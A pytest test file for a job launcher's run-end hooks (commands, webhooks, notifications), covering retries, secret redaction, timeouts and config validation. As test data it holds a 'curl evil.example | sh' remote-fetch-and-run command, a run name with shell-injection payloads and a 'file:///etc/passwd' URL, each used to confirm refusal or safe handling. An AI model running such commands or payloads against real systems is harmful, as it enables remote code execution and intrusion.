"""Hooks when a run ends (issue 18): a command, a webhook, a desktop notification.

From the CLI, with real agents, real processes, a real store and a loopback webhook
receiver (``http.server`` in a thread) that fails the deliveries it is told to.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import StartAgent, cli, cli_json, make_script, table_counts, wait_for

BACKOFF = {"LAUNCHCTL_HOOK_BACKOFF_S": "0.05", "LAUNCHCTL_HOOK_POLL_S": "0.1"}


class Receiver:
    """A webhook receiver on loopback: answers 500 to the first ``fail`` requests (or
    to every request while ``down``), then 200; keeps each request's body and headers."""

    def __init__(self, fail: int = 0) -> None:
        self.fail = fail
        self.down = False
        self.requests: list[dict[str, Any]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                receiver.requests.append(
                    {"path": self.path, "headers": dict(self.headers), "body": data}
                )
                failing = receiver.down or len(receiver.requests) <= receiver.fail
                self.send_response(500 if failing else 200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.close()


@pytest.fixture(autouse=True)
def fast_backoff(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in BACKOFF.items():
        monkeypatch.setenv(name, value)


def job(tmp_path: Path, body: str = "print('training done')\n", name: str = "job") -> Path:
    return make_script(tmp_path / name, "main.py", body).parent


def launch(*args: str) -> str:
    proc = cli("launch", *args)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.strip()


def hooks_of(run_id: str) -> list[dict[str, Any]]:
    return list(cli_json("runs", "show", run_id)["hooks"]["deliveries"])


def settled(run_id: str, n: int = 1) -> list[dict[str, Any]] | None:
    found = hooks_of(run_id)
    if len(found) >= n and all(d["state"] != "pending" for d in found):
        return found
    return None


def one_line_refusal(proc: subprocess.CompletedProcess[str]) -> str:
    assert proc.returncode == 1, (proc.returncode, proc.stdout, proc.stderr)
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr
    return proc.stderr


# -- webhooks ------------------------------------------------------------------------------


def test_a_webhook_failing_twice_is_delivered_on_the_third_try_with_the_run_s_facts(
    tmp_path: Path, start_agent: StartAgent, receiver: Receiver
) -> None:
    receiver.fail = 2
    token = "tok-" + os.urandom(8).hex()
    cli("secret", "set", "hook-url", input=f"{receiver.url}/hooks/{token}", check=True)
    hooks = [{"on": ["finished"], "webhook": {"secret": "hook-url"}}]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py",
                    "--name", "resnet-50")  # fmt: skip
    agent = start_agent("-q", "train")
    done = wait_for(lambda: settled(run_id), what="the webhook delivered")
    assert [(d["state"], d["attempts"], d["max_attempts"]) for d in done] == [("delivered", 3, 6)]
    assert len(receiver.requests) == 3
    got = receiver.requests[-1]
    assert got["path"] == f"/hooks/{token}"
    assert got["headers"]["Content-Type"] == "application/json"
    # The same delivery id on every try, so a receiver can drop a duplicate.
    assert len({r["headers"]["X-Launchctl-Delivery"] for r in receiver.requests}) == 1
    body = json.loads(got["body"])
    run = cli_json("runs", "show", run_id)
    assert body["run_id"] == run_id and body["name"] == "resnet-50"
    assert (body["state"], body["exit_code"], body["queue"]) == ("finished", 0, "train")
    assert (body["entity"], body["project"]) == (run["entity"], run["project"])
    assert body["event"] == "run.ended" and body["duration_s"] >= 0
    assert body["started_at"].endswith("Z") and body["ended_at"].endswith("Z")
    assert "log" not in body and "run_as" not in body  # nothing of this machine's paths
    # The URL came from a secret: never shown, in the agent's lines or in `runs show`.
    shown = cli("runs", "show", run_id, check=True).stdout
    assert "webhook ***  delivered" in shown
    wait_for(lambda: "delivered" in agent.output(), what="the agent's line")
    agent.stop()
    assert "answered HTTP 500; try 2 of 6" in agent.output()
    for text in (agent.output(), shown, json.dumps(run)):
        assert token not in text and receiver.url not in text
    assert run["state"] == "finished"


def test_a_webhook_owed_when_its_agent_is_killed_is_delivered_after_a_restart(
    tmp_path: Path, start_agent: StartAgent, receiver: Receiver
) -> None:
    receiver.down = True
    hooks = [{"webhook": f"{receiver.url}/end", "retries": 20}]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    first = start_agent("-q", "train")
    wait_for(lambda: len(receiver.requests) >= 2, what="two refused tries")
    first.signal(signal.SIGKILL)
    first.wait()
    [owed] = hooks_of(run_id)
    assert owed["state"] == "pending" and owed["attempts"] >= 2
    receiver.down = False
    second = start_agent("-q", "train")
    [done] = wait_for(lambda: settled(run_id), what="the delivery after the restart")
    assert done["state"] == "delivered" and done["attempts"] > owed["attempts"]
    assert json.loads(receiver.requests[-1]["body"])["run_id"] == run_id
    assert "took over the deliveries owed by an agent that is gone" in second.output()
    assert cli_json("runs", "show", run_id)["state"] == "finished"


def test_a_webhook_secret_that_is_missing_or_not_a_url_fails_the_hook_never_the_run(
    tmp_path: Path,
) -> None:
    value = "sk-" + os.urandom(8).hex()  # a secret that is not a URL: never shown
    cli("secret", "set", "not-a-url", input=value, check=True)
    hooks = [
        {"webhook": {"secret": "not-a-url"}, "retries": 0},
        {"webhook": {"secret": "never-set"}, "retries": 0},  # (tried again when retries > 0)
    ]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    proc = cli("agent", "-q", "train", "--burst", check=True)
    done = wait_for(lambda: settled(run_id, 2), what="both hooks settled")
    assert [d["state"] for d in done] == ["failed", "failed"]
    assert "the URL in secret not-a-url only http and https URLs" in done[0]["last_error"]
    assert "never-set" in done[1]["last_error"]
    shown = cli("runs", "show", run_id, check=True).stdout
    assert value not in shown + proc.stderr + json.dumps(done)
    assert cli_json("runs", "show", run_id)["state"] == "finished"


# -- commands ------------------------------------------------------------------------------


def test_a_command_hook_gets_the_run_s_facts_in_its_environment_never_in_its_command_line(
    tmp_path: Path, home: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    # The run's name and reason are typed by a launcher: even echoed unquoted, they stay
    # text (a shell expands a variable's value once, never running what it holds).
    command = (
        f'cd {out} && env > env.txt && cp "$LAUNCHCTL_LOG" log.txt'
        " && echo $LAUNCHCTL_RUN_NAME $LAUNCHCTL_REASON > echoed.txt"
    )
    hooks = [{"on": ["failed"], "command": command}, {"on": ["finished"], "command": "false"}]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    body = "import sys\nprint('epoch 1 loss 0.5')\nsys.exit(3)\n"
    name = "x;touch pwned$(touch pwned2)`touch pwned3`"
    run_id = launch("-q", "train", "-u", str(job(tmp_path, body)), "-E", "python main.py",
                    "--name", name)  # fmt: skip
    cli("agent", "-q", "train", "--burst", check=True)
    [done] = wait_for(lambda: settled(run_id), what="the command hook")
    assert done["state"] == "delivered" and done["source"] == "queue"
    env = dict(
        line.split("=", 1) for line in (out / "env.txt").read_text().splitlines() if "=" in line
    )
    assert env["LAUNCHCTL_RUN_ID"] == run_id and env["LAUNCHCTL_RUN_NAME"] == name
    assert (env["LAUNCHCTL_RUN_STATE"], env["LAUNCHCTL_EXIT_CODE"]) == ("failed", "3")
    assert (env["LAUNCHCTL_QUEUE"], env["LAUNCHCTL_STAGE"]) == ("train", "run")
    assert float(env["LAUNCHCTL_DURATION"]) >= 0 and env["LAUNCHCTL_REASON"]
    # A queue's hook learns nothing of the store: no LAUNCHCTL_HOME, its log a copy.
    assert "LAUNCHCTL_HOME" not in env
    assert str(home) not in (out / "env.txt").read_text()
    assert "epoch 1 loss 0.5" in (out / "log.txt").read_text()
    assert not Path(env["LAUNCHCTL_LOG"]).exists()  # the copy went with its folder
    assert sorted(p.name for p in out.iterdir()) == ["echoed.txt", "env.txt", "log.txt"]
    assert name in (out / "echoed.txt").read_text()
    assert not list(tmp_path.rglob("pwned*"))


def test_an_agent_config_hook_runs_as_its_owner_with_the_real_log(tmp_path: Path) -> None:
    out = tmp_path / "seen.txt"
    config = tmp_path / "launch-config.yaml"
    config.write_text(
        "queues: [train]\n"
        "hooks:\n"
        f"  - command: 'echo \"$LAUNCHCTL_RUN_STATE $LAUNCHCTL_LOG\" > {out}'\n"
    )
    cli("queue", "create", "train", check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    cli("agent", "-c", str(config), "--burst", check=True)
    [done] = wait_for(lambda: settled(run_id), what="the agent's hook")
    assert (done["source"], done["state"]) == ("agent", "delivered")
    state, log = out.read_text().split()
    assert state == "finished" and log == cli_json("runs", "show", run_id)["log_path"]


def test_a_hook_that_hangs_is_killed_after_its_timeout_and_the_run_stays_finished(
    tmp_path: Path,
) -> None:
    pid_file = tmp_path / "child.pid"
    command = f"sleep 600 & echo $! > {pid_file}; sleep 600"
    hooks = [{"command": command, "timeout": 1}]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    proc = cli("agent", "-q", "train", "--burst", check=True)
    [done] = wait_for(lambda: settled(run_id), what="the hook's end")
    assert done["state"] == "failed"
    assert "timed out after 1 s; its process group was killed" in done["last_error"]
    assert "timed out after 1 s" in proc.stderr
    child = int(pid_file.read_text())
    wait_for(lambda: not Path(f"/proc/{child}").exists() or _zombie(child),
             what="the hook's background child killed")  # fmt: skip
    run = cli_json("runs", "show", run_id)
    assert (run["state"], run["exit_code"]) == ("finished", 0)
    assert any("timed out" in (e["message"] or "") for e in run["events"])  # a note on the run


def test_an_agent_stopping_kills_a_command_hook_still_running_and_says_so(
    tmp_path: Path, start_agent: StartAgent
) -> None:
    pid_file = tmp_path / "hook.pid"
    hooks = [{"command": f"echo $$ > {pid_file}; sleep 600", "timeout": 600}]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    agent = start_agent("-q", "train", "--grace", "1")  # a hook gets a run's grace
    wait_for(lambda: pid_file.exists() and pid_file.read_text().strip(), what="the hook started")
    hook_pid = int(pid_file.read_text())
    agent.signal(signal.SIGTERM)
    assert agent.wait(timeout=60) == 0
    assert not Path(f"/proc/{hook_pid}").exists() or _zombie(hook_pid)  # no orphan left
    [done] = hooks_of(run_id)
    assert done["state"] == "failed"
    assert "the agent stopped before it ended; its process group was killed" in done["last_error"]
    assert cli_json("runs", "show", run_id)["state"] == "finished"


def _zombie(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
    except OSError:
        return True


def test_hooks_filter_by_end_state(tmp_path: Path) -> None:
    out = tmp_path / "fired"
    out.mkdir()
    hooks = [
        {"on": ["failed"], "command": f"touch {out}/on-failed"},
        {"on": ["finished", "stopped"], "command": f"touch {out}/on-finished"},
        {"command": f"touch {out}/on-every-end"},
    ]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    cli("agent", "-q", "train", "--burst", check=True)
    wait_for(lambda: settled(run_id, 2), what="two hooks")
    assert sorted(p.name for p in out.iterdir()) == ["on-every-end", "on-finished"]


def test_a_queued_run_cancelled_gets_its_hooks_from_the_next_agent_of_its_queue(
    tmp_path: Path, start_agent: StartAgent, receiver: Receiver
) -> None:
    hooks = [{"on": ["stopped"], "webhook": receiver.url}]
    cli("queue", "create", "train", "--config", json.dumps({"hooks": hooks}), check=True)
    run_id = launch("-q", "train", "-u", str(job(tmp_path)), "-E", "python main.py")
    cli("runs", "cancel", run_id, check=True)
    assert (
        "an agent serving its queue works out its hooks"
        in cli("runs", "show", run_id, check=True).stdout
    )
    start_agent("-q", "train")
    wait_for(lambda: settled(run_id), what="the cancelled run's hook")
    assert json.loads(receiver.requests[0]["body"])["state"] == "stopped"


def test_runs_with_no_hook_anywhere_record_nothing_for_hooks(tmp_path: Path, home: Path) -> None:
    cli("queue", "create", "plain", check=True)
    run_id = launch("-q", "plain", "-u", str(job(tmp_path)), "-E", "python main.py")
    cli("agent", "-q", "plain", "--burst", check=True)
    assert cli_json("runs", "show", run_id)["state"] == "finished"
    counts = table_counts(home)
    assert (counts["hook_ends"], counts["hook_deliveries"]) == (0, 0)
    assert "hooks:" not in cli("runs", "show", run_id, check=True).stdout


def test_a_notify_hook_without_a_desktop_is_skipped_saying_so_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("DISPLAY", "WAYLAND_DISPLAY", "DBUS_SESSION_BUS_ADDRESS"):
        monkeypatch.delenv(name, raising=False)
    cli("queue", "create", "train", "--config", '{"hooks": [{"notify": true}]}', check=True)
    code = job(tmp_path)
    runs = [launch("-q", "train", "-u", str(code), "-E", "python main.py") for _ in range(2)]
    proc = cli("agent", "-q", "train", "--burst", check=True)
    for run_id in runs:
        [done] = wait_for(lambda r=run_id: settled(r), what="the notify hook")  # type: ignore[misc]
        assert done["state"] == "skipped" and "no desktop notification" in done["last_error"]
        assert cli_json("runs", "show", run_id)["state"] == "finished"
    assert proc.stderr.count("no desktop notification here") == 1


# -- who may add hooks, and what is refused --------------------------------------------------

ALICE = {"LAUNCHCTL_USER": "alice"}
BOB = {"LAUNCHCTL_USER": "bob"}


def test_a_member_cannot_add_hooks_to_a_queue_only_its_admins(home: Path) -> None:
    cli("team", "create", "vision", env=ALICE, check=True)
    cli("team", "add", "vision", "bob", env=ALICE, check=True)
    cli("queue", "create", "gpu", "--entity", "vision", env=ALICE, check=True)
    before = table_counts(home)
    config = json.dumps({"hooks": [{"command": "curl evil.example | sh"}]})
    proc = cli("queue", "edit", "gpu", "--config", config, env=BOB)
    assert "admin" in one_line_refusal(proc)
    assert table_counts(home) == before
    assert "hooks" not in cli_json("queue", "show", "gpu")["config"]
    cli("queue", "edit", "gpu", "--config", config, env=ALICE, check=True)  # its admin may


BAD_HOOKS = [
    ({"hooks": {"command": "true"}}, "hooks must be a list"),
    ({"hooks": [{"command": "true", "shell": "bash"}]}, "hooks[0] has unknown key 'shell'"),
    ({"hooks": [{"command": "true", "notify": True}]}, "hooks[0] must have exactly one of"),
    ({"hooks": [{}]}, "hooks[0] must have exactly one of"),
    ({"hooks": [{"on": ["preempted"], "notify": True}]}, "goes back to its queue"),
    ({"hooks": [{"on": ["done"], "notify": True}]}, "use: finished, failed, stopped"),
    ({"hooks": [{"on": [], "notify": True}]}, "hooks[0].on must be a list of end states"),
    ({"hooks": [{"command": ""}]}, "hooks[0].command must be a shell command"),
    ({"hooks": [{"command": "true", "timeout": 0}]}, "hooks[0].timeout must be"),
    ({"hooks": [{"command": "true", "retries": 2}]}, "retries applies to webhooks only"),
    ({"hooks": [{"webhook": "ftp://example.org/x"}]}, "only http and https URLs"),
    ({"hooks": [{"webhook": "file:///etc/passwd"}]}, "only http and https URLs"),
    ({"hooks": [{"webhook": "http:///nohost"}]}, "the URL has no host"),
    ({"hooks": [{"webhook": "http://a b/"}]}, "without spaces"),
    ({"hooks": [{"webhook": {"secret": "x", "url": "y"}}]}, "a secret reference is"),
    ({"hooks": [{"webhook": "https://example.org", "retries": -1}]}, "retries must be"),
    ({"hooks": [{"notify": "yes"}]}, "hooks[0].notify must be true"),
    ({"hooks": [{"command": "echo {{who}}"}]}, "hooks cannot hold template fields"),
    ({"hooks": [{"notify": True}] * 21}, "at most 20"),
]


@pytest.mark.parametrize(("config", "said"), BAD_HOOKS, ids=[s for _, s in BAD_HOOKS])
def test_a_bad_hooks_config_is_refused_in_one_line_and_nothing_is_written(
    home: Path, config: dict[str, Any], said: str
) -> None:
    cli("queue", "list", check=True)  # the store exists: counts compare
    before = table_counts(home)
    proc = cli("queue", "create", "q", "--config", json.dumps(config))
    line = one_line_refusal(proc)
    assert said in line and "queue config" in line, line
    assert table_counts(home) == before


def test_a_command_hook_on_a_container_queue_is_refused(home: Path) -> None:
    cli("queue", "list", check=True)
    before = table_counts(home)
    config = {"hooks": [{"command": "id"}]}
    proc = cli("queue", "create", "box", "-r", "local-container", "--config", json.dumps(config))
    assert "a local-container queue's runs do not run there" in one_line_refusal(proc)
    assert table_counts(home) == before
    ok = {"hooks": [{"webhook": "https://example.org/x"}, {"notify": True}]}
    cli("queue", "create", "box", "-r", "local-container", "--config", json.dumps(ok), check=True)


def test_a_bad_hooks_key_in_the_agent_config_is_refused_in_one_line(tmp_path: Path) -> None:
    cli("queue", "create", "train", check=True)
    config = tmp_path / "agent.yaml"
    config.write_text("queues: [train]\nhooks:\n  - webhook: gopher://x\n")
    proc = cli("agent", "-c", str(config), "--burst")
    assert proc.returncode != 0 and proc.stderr.count("\n") == 1, proc.stderr
    assert "hooks[0].webhook: only http and https URLs" in proc.stderr


# -- a queue's command runs as a run of that queue would ---------------------------------------

RUN_USER = "launchctl-run-test"


@pytest.fixture
def run_user() -> pwd.struct_passwd:
    if os.geteuid() != 0:
        pytest.skip("needs root, to start a hook as another user")
    try:
        return pwd.getpwnam(RUN_USER)
    except KeyError:
        pass
    if shutil.which("useradd") is None:
        pytest.skip("needs useradd to make an unprivileged user")
    done = subprocess.run(
        ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", RUN_USER],
        capture_output=True,
        text=True,
    )
    if done.returncode not in (0, 9):
        pytest.skip(f"useradd {RUN_USER} failed: {done.stderr.strip()}")
    return pwd.getpwnam(RUN_USER)


def test_a_run_as_queue_s_command_hook_runs_as_that_user_and_cannot_read_the_store(
    tmp_path: Path, home: Path, run_user: pwd.struct_passwd, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = Path(tempfile.mkdtemp(prefix="launchctl-hook-test-"))
    try:
        out.chmod(0o777)
        db = home / "launchctl.db"
        command = (
            f"id -u > {out}/uid; (head -c1 {db} >/dev/null 2>&1 && echo READABLE"
            f' || echo refused) > {out}/store; echo "$HOME" > {out}/home'
        )
        config = {"run_as": RUN_USER, "hooks": [{"command": command}]}
        cli("queue", "create", "lab", "--config", json.dumps(config), check=True)
        run_id = launch("-q", "lab", "-u", str(job(tmp_path)), "-E", "python main.py")
        monkeypatch.setenv("LAUNCHCTL_RUN_AS_USERS", RUN_USER)
        cli("agent", "-q", "lab", "--burst", check=True)
        [done] = wait_for(lambda: settled(run_id), what="the hook")
        assert done["state"] == "delivered", done
        assert (out / "uid").read_text().strip() == str(run_user.pw_uid)
        assert (out / "store").read_text().strip() == "refused"
        assert (out / "home").read_text().strip() == run_user.pw_dir
    finally:
        shutil.rmtree(out, ignore_errors=True)


def test_a_gone_agent_s_own_hooks_are_taken_over_only_by_an_agent_of_the_same_user(
    store: Any,
) -> None:
    """The trust rule of a takeover, at the store: an agent config's hooks are its owner's
    (a command in them runs as the agent's user), so only an agent of that same Unix user
    takes them over; a queue's hooks go to an agent that serves that queue."""
    from launchctl.store.hooks import HookTable

    cli("queue", "create", "mine", check=True)
    cli("queue", "create", "theirs", check=True)
    run_id = launch("-q", "mine", "-u", str(job(Path(tempfile.mkdtemp()))), "-E", "true")
    mine, theirs = store.queues.get("mine")["id"], store.queues.get("theirs")["id"]
    table = HookTable(store.db)
    me, other = os.getuid(), os.getuid() + 4242
    base = {"owner": "gone-agent", "kind": "notify", "hook": {}, "facts": {}, "max_attempts": 1}
    rows = [
        {**base, "source": "agent", "queue_id": mine, "owner_uid": me},
        {**base, "source": "agent", "queue_id": mine, "owner_uid": other},
        {**base, "source": "queue", "queue_id": mine, "owner_uid": other},
        {**base, "source": "queue", "queue_id": theirs, "owner_uid": me},
    ]
    store.db.execute(
        "INSERT INTO hook_ends (run_id, state, at) VALUES (?, 'finished', 0)", [run_id]
    )
    assert table.expand(run_id, rows)
    assert table.take_over("new-agent", me, [mine], dead=[]) == 2
    owners = [(r["source"], r["owner_uid"], r["owner"]) for r in table.for_run(run_id)]
    assert owners == [
        ("agent", me, "new-agent"),  # its own user's config: taken over
        ("agent", other, "gone-agent"),  # another user's config: never
        ("queue", other, "new-agent"),  # a queue it serves: taken over
        ("queue", me, "gone-agent"),  # a queue it does not serve: never
    ]
